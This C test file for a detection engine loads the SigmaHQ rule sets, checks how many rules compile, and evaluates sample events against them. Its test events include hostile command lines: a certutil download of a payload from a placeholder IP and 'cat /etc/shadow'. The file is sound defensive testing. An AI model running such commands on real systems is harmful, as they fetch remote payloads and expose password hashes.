/*
 * test_sigma_load_all.c - loads every shared SigmaHQ rule (rules/ and rules-threat-hunting/,
 * about 1,800), prints the load summary and time, and checks that at least 90 % of the
 * non-correlation rules compile and that evaluation works on a few events.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "vgtest.h"

#include "rules.h"
#include "vg.h"

struct hits {
    int n;
    const char *last;
};

static void on_match(void *ctx, const struct cor_rule_info *ri)
{
    struct hits *h = ctx;
    h->n++;
    h->last = ri->title;
}

static void set(struct vg_evview *v, enum vg_field f, const char *s)
{
    v->f[f].p = s;
    v->f[f].n = strlen(s);
}

static void test_load_all(void **state)
{
    char *d1 = vgt_shared("sigma/rules");
    char *d2 = vgt_shared("sigma/rules-threat-hunting");
    const char *dirs[] = {d1, d2};
    struct cor_load_summary sum;
    cor_ruleset *rs = NULL;
    cor_scratch *s;
    char err[256] = "";
    uint64_t t0 = vg_mono_ns(), t1;
    struct vg_evview v;
    struct hits h = {0, NULL};
    unsigned rules;
    int i, n;

    assert_int_equal(cor_ruleset_load(dirs, 2, &rs, &sum, err, sizeof(err)), 0);
    t1 = vg_mono_ns();
    rules = sum.loaded + sum.skipped;
    printf("sigma load: %u files, %u loaded, %u skipped (%u for fields), %u correlation, "
           "%u reading extra-only fields; %.1f%% of %u rules; %.3f s\n",
           sum.files, sum.loaded, sum.skipped, sum.unsupported_fields, sum.correlations,
           sum.extra_fields, 100.0 * sum.loaded / (rules ? rules : 1), rules,
           (double)(t1 - t0) / 1e9);
    assert_true(sum.files > 1500);
    assert_true(sum.loaded * 10 >= rules * 9);
    assert_int_equal(cor_ruleset_count(rs), sum.loaded);
    /* The 2 s load goal is measured by vigil bench, not asserted here: the time printed
     * above is informative only, as shared machines are noisy. */

    s = cor_scratch_new(rs);
    assert_non_null(s);
    /* A classic: certutil downloading a file. */
    memset(&v, 0, sizeof(v));
    v.cat = VG_CAT_PROCESS_CREATION;
    v.os = VIGIL__OS__OS_WINDOWS;
    set(&v, VG_F_IMAGE, "C:\\Windows\\System32\\certutil.exe");
    set(&v, VG_F_ORIGINAL_FILE_NAME, "CertUtil.exe");
    set(&v, VG_F_PARENT_IMAGE, "C:\\Windows\\System32\\cmd.exe");
    set(&v, VG_F_COMMAND_LINE,
        "certutil.exe -urlcache -split -f http://203.0.113.5/payload.exe C:\\Users\\Public\\p.exe");
    n = cor_rules_eval(rs, s, &v, on_match, &h);
    printf("certutil download: %d rules matched (last: %s)\n", n, h.last ? h.last : "-");
    assert_true(n >= 1);
    assert_int_equal(n, h.n);

    /* A benign process: far fewer matches, and the same answer on every run. */
    memset(&v, 0, sizeof(v));
    v.cat = VG_CAT_PROCESS_CREATION;
    v.os = VIGIL__OS__OS_WINDOWS;
    set(&v, VG_F_IMAGE, "C:\\Program Files\\Vendor\\app.exe");
    set(&v, VG_F_PARENT_IMAGE, "C:\\Windows\\explorer.exe");
    set(&v, VG_F_COMMAND_LINE, "\"C:\\Program Files\\Vendor\\app.exe\" --check-updates");
    h.n = 0;
    n = cor_rules_eval(rs, s, &v, on_match, &h);
    printf("benign process: %d rules matched%s%s\n", n, n ? ", last: " : "", n ? h.last : "");
    assert_true(n <= 2);

    /* Linux: reading the shadow file. */
    memset(&v, 0, sizeof(v));
    v.cat = VG_CAT_PROCESS_CREATION;
    v.os = VIGIL__OS__OS_LINUX;
    set(&v, VG_F_IMAGE, "/usr/bin/cat");
    set(&v, VG_F_COMMAND_LINE, "cat /etc/shadow");
    h.n = 0;
    n = cor_rules_eval(rs, s, &v, on_match, &h);
    printf("cat /etc/shadow: %d rules matched (last: %s)\n", n, h.last ? h.last : "-");
    assert_true(n >= 1);

    /* Throughput on the certutil event, for information. */
    memset(&v, 0, sizeof(v));
    v.cat = VG_CAT_PROCESS_CREATION;
    v.os = VIGIL__OS__OS_WINDOWS;
    set(&v, VG_F_IMAGE, "C:\\Windows\\System32\\certutil.exe");
    set(&v, VG_F_PARENT_IMAGE, "C:\\Windows\\System32\\cmd.exe");
    set(&v, VG_F_COMMAND_LINE, "certutil.exe -urlcache -split -f http://203.0.113.5/p.exe");
    t0 = vg_mono_ns();
    for (i = 0; i < 20000; i++)
        cor_rules_eval(rs, s, &v, NULL, NULL);
    t1 = vg_mono_ns();
    printf("eval: %.2f us per process_creation event over %zu rules\n",
           (double)(t1 - t0) / 1e3 / 20000, cor_ruleset_count(rs));

    cor_scratch_destroy(s);
    cor_ruleset_unref(rs);
    free(d1);
    free(d2);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_load_all),
    };

    vg_log_set_level(VG_LOG_ERROR);
    return cmocka_run_group_tests(tests, NULL, NULL);
}
